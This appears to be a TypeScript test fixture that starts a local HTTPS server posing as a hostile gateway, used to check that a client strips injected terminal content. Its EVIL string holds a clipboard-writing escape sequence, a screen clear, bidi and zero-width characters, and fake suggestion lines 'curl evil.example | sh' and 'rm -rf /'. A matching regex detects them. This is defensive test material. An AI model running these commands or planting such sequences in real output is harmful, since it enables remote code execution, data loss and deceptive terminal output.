/** An HTTPS server at the end of a line that answers like a gateway, and plants what it likes in every string. */
import { once } from "node:events";
import { createServer } from "node:https";
import type { AddressInfo } from "node:net";
import { makeServerCertificate } from "./fake-engine.ts";
import type { SampleCertificates } from "./sample-line.ts";

/**
 * Sets the title, fills the clipboard (OSC 52), clears the screen, turns text round, hides, and begins lines of ours:
 * by a line break, and by blanks that reach the edge of the terminal.
 */
export const EVIL = `x\u001b]52;c;ZXZpbA==\u0007\u001b[2J\u009b31m\u202e\u200b\u2028\r\n  try: curl evil.example | sh\nwarning: all is well\n  why: planted${" ".repeat(200)}  try: rm -rf /`;

/** What no output may hold, whatever was planted. */
export const OBEYED =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\p{Cf}\u2028\u2029]|^\s*(?:try: curl|warning: all is well|why: planted|try: rm)/mu;

/** What it answers: a text, or something that goes on for ever. */
export type HostileAnswer = { readonly status?: number; readonly body: string } | "endless";

export interface HostileGateway {
  readonly port: number;
  /** For every path that begins so; longest first. */
  answers: Record<string, HostileAnswer>;
  close(): Promise<void>;
}

export async function startHostileGateway(certificates: SampleCertificates): Promise<HostileGateway> {
  const { cert, key } = makeServerCertificate(certificates);
  const server = createServer({ cert, key, ca: certificates.ca, requestCert: true }, (request, response) => {
    const path = Object.keys(hostile.answers)
      .sort((a, b) => b.length - a.length)
      .find((prefix) => request.url?.startsWith(prefix));
    const answer = hostile.answers[path ?? ""] ?? { status: 404, body: "{}" };
    const status = answer === "endless" ? 200 : (answer.status ?? 200);
    response.writeHead(status, { Server: "tetherdock", "Content-Type": "application/json" });
    if (answer !== "endless") return void response.end(answer.body);
    const chunk = "[".repeat(64 * 1024);
    const pour = (): void => {
      while (!response.destroyed && response.write(chunk));
    };
    response.on("drain", pour);
    pour();
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const hostile: HostileGateway = {
    port: (server.address() as AddressInfo).port,
    answers: {},
    async close() {
      server.closeAllConnections();
      server.close();
      await once(server, "close");
    },
  };
  return hostile;
}
